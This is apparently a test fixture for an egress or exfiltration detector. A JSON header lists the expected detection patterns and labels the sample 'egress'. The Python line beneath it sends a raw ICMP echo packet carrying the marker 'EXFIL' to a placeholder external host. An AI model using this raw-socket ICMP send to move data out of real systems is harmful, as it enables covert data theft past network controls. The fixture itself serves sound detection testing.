#: {"class": "egress", "loader": "script", "expect": [["socket|sendto|connect|send", "raw|SOCK_RAW|packet|203\\.0\\.113\\.7"]], "effect": {"sink": ["frame", "EXFIL"]}}
import socket
socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(b"\x08\0\xf7\xff\0\0\0\0EXFIL", (EXT, 0))
